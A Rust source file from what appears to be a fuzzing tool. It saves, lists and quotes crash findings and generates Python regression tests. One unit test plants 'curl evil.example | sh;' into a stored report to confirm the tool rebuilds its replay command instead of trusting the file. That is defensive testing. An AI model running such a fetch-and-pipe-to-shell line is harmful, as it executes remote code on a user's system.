//! The findings folder of a campaign: one folder a bug, whoever found it.
//!
//! A finding is written under a name of its own and renamed into place, so it is there as a whole or
//! not at all, and the first engine that finds a bug wins.

use std::io;
use std::path::{Path, PathBuf};

use super::report::{Described, Report};
use crate::disk;

/// Writes a finding into `findings` unless one of the same kind and signature is there. Says where it
/// lies and whether it is new. `report.input` and `report.replay` are set to where the input comes to
/// lie and to `hitmap` followed by its path; `flags` are for `hitmap replay` where no campaign tells them.
/// `setup` is the campaign's manifest, which goes along wherever the finding is copied.
///
/// # Errors
/// What the file system reports.
pub fn save(
    findings: &Path,
    mut described: Described,
    input: &[u8],
    coverage: Option<&[u8]>,
    hitmap: &str,
    flags: &[String],
    setup: &[u8],
) -> io::Result<(PathBuf, bool)> {
    let report = &mut described.report;
    let folder = findings.join(format!("{}-{}", report.kind, report.signature));
    if folder.exists() {
        return Ok((folder, false));
    }
    report.input = folder.join("input").to_string_lossy().into_owned();
    report.input_len = input.len();
    report.replay = replay(hitmap, &report.input);
    let making = disk::new_folder(findings)?;
    let write = |name: &str, content: &[u8]| disk::replace(&making.join(name), content);
    write("input", input)?;
    write("report.json", &serde_json::to_vec_pretty(report).map_err(io::Error::other)?)?;
    write("traceback.txt", described.traceback.as_bytes())?;
    write("setup.json", setup)?;
    let test = regression_test(report, &python_string(&report.harness), flags);
    write(&format!("test_{}.py", report.signature), test.as_bytes())?;
    if let Some(coverage) = coverage {
        write("coverage.hitmap", coverage)?;
    }
    match std::fs::rename(&making, &folder) {
        Ok(()) => Ok((folder, true)),
        Err(_) if folder.exists() => {
            std::fs::remove_dir_all(&making)?;
            Ok((folder, false))
        }
        Err(e) => Err(disk::at(&folder)(e)),
    }
}

/// Every finding of a campaign, by folder name, with the paths of where it lies now: campaigns are copied
/// and renamed. What `hitmap` says runs it again is made here and never taken from the file, which may be
/// somebody else's. Folders without a readable report are passed over; [`damaged`] names them.
///
/// # Errors
/// What the file system reports of the folder itself; that it is not there is no error.
pub fn all(findings: &Path, hitmap: &str) -> io::Result<Vec<Report>> {
    Ok(folders(findings)?.iter().filter_map(|folder| read(folder, hitmap).ok()).collect())
}

/// What is wrong with findings that are not listed, a sentence each.
pub fn damaged(findings: &Path) -> Vec<String> {
    let folders = folders(findings).unwrap_or_default();
    let errors = folders.iter().filter_map(|folder| read(folder, "").err());
    errors
        .map(|error| format!("a finding is not listed: {error}; move its folder away, and it can be found anew"))
        .collect()
}

fn folders(findings: &Path) -> io::Result<Vec<PathBuf>> {
    let entries = match std::fs::read_dir(findings) {
        Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(Vec::new()),
        entries => entries?,
    };
    let mut folders: Vec<PathBuf> = entries.filter_map(|e| Some(e.ok()?.path())).collect();
    folders.retain(|folder| !folder.file_name().is_some_and(|n| n.to_string_lossy().starts_with('.')));
    folders.sort();
    Ok(folders)
}

fn read(folder: &Path, hitmap: &str) -> io::Result<Report> {
    let path = folder.join("report.json");
    let text = disk::read(&path, disk::LONGEST_TEXT)?;
    let mut report: Report = serde_json::from_slice(&text).map_err(|e| disk::at(&path)(e.into()))?;
    report.input = folder.join("input").to_string_lossy().into_owned();
    report.replay = replay(hitmap, &report.input);
    Ok(report)
}

fn replay(hitmap: &str, input: &str) -> String {
    format!("{hitmap} replay {}", shell_quote(input))
}

/// A path as a shell takes it.
pub fn shell_quote(text: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "/._-+=:,@%".contains(c);
    if !text.is_empty() && text.chars().all(plain) { text.into() } else { format!("'{}'", text.replace('\'', r"'\''")) }
}

/// Text as Python spells it. A JSON string is a Python string: JSON escapes nothing that Python reads
/// differently.
pub fn python_string(text: &str) -> String {
    serde_json::Value::from(text).to_string()
}

/// A test that fails for as long as the bug is there. `harness` is a Python expression, which may use `HERE`,
/// the test's own folder. It carries the campaign's flags along, because it may be copied to where no
/// campaign is.
pub fn regression_test(report: &Report, harness: &str, flags: &[String]) -> String {
    let flags: String = flags.iter().map(|flag| format!(", {}", python_string(flag))).collect();
    format!(
        "\"\"\"Fails for as long as the bug is there.\n\n{}\n\"\"\"\n\nimport pathlib\nimport subprocess\nimport sys\n\n\
         HERE = pathlib.Path(__file__).resolve().parent\nHARNESS = {harness}\nINPUT = HERE / \"input\"\n\n\n\
         def test_{}():\n    command = [sys.executable, \"-m\", \"hitmap\", \"replay\", str(INPUT), \"--harness\", HARNESS{flags}]\n    \
         run = subprocess.run(command, capture_output=True, text=True)\n    \
         assert run.returncode == 0, run.stdout + run.stderr\n",
        crate::print::plain(&report.title).replace('\\', "\\\\").replace('"', "'"),
        report.signature
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn described(signature: &str) -> Described {
        let report = Report { kind: "signal".into(), signature: signature.into(), ..Report::default() };
        Described { report, traceback: "t".into() }
    }

    #[test]
    fn the_first_finder_wins() {
        let folder = tempfile::tempdir().unwrap();
        let (path, new) = save(folder.path(), described("aa"), b"one", None, "hitmap", &[], b"{}").unwrap();
        assert!(new);
        assert_eq!(
            save(folder.path(), described("aa"), b"two", None, "hitmap", &[], b"{}").unwrap(),
            (path.clone(), false)
        );
        assert_eq!(std::fs::read(path.join("input")).unwrap(), b"one");
        let all = all(folder.path(), "hitmap").unwrap();
        assert_eq!(all.len(), 1);
        assert!(all[0].replay.starts_with("hitmap replay /"));
    }

    #[test]
    fn a_campaign_that_was_renamed_names_its_inputs_where_they_are() {
        let folder = tempfile::tempdir().unwrap();
        let (before, after) = (folder.path().join("a"), folder.path().join("b c"));
        save(&before, described("aa"), b"one", None, "hitmap", &[], b"{}").unwrap();
        std::fs::rename(before, &after).unwrap();
        let input = after.join("signal-aa/input").to_string_lossy().into_owned();
        let found = all(&after, "hitmap").unwrap().remove(0);
        assert_eq!((found.replay, found.input), (format!("hitmap replay '{input}'"), input));
    }

    #[test]
    fn the_command_is_ours_whatever_a_report_says() {
        let folder = tempfile::tempdir().unwrap();
        let (path, _) = save(folder.path(), described("aa"), b"one", None, "hitmap", &[], b"{}").unwrap();
        let report = path.join("report.json");
        let text = std::fs::read_to_string(&report).unwrap();
        std::fs::write(&report, text.replace("hitmap replay", "curl evil.example | sh;")).unwrap();
        let found = all(folder.path(), "hitmap").unwrap().remove(0);
        assert_eq!(found.replay, format!("hitmap replay {}", path.join("input").display()));
    }

    #[test]
    fn half_written_findings_are_not_listed() {
        let folder = tempfile::tempdir().unwrap();
        std::fs::create_dir(folder.path().join(".making-1-aa")).unwrap();
        std::fs::create_dir(folder.path().join("signal-bb")).unwrap();
        assert_eq!(all(folder.path(), "hitmap").unwrap(), []);
        assert_eq!(all(&folder.path().join("absent"), "hitmap").unwrap(), []);
        let said = damaged(folder.path());
        assert!(said.len() == 1 && said[0].contains("signal-bb/report.json: No such file"), "{said:?}");
    }

    #[test]
    fn shell_words_are_quoted() {
        assert_eq!(shell_quote("out/a-b"), "out/a-b");
        assert_eq!(shell_quote("it's"), r"'it'\''s'");
    }
}
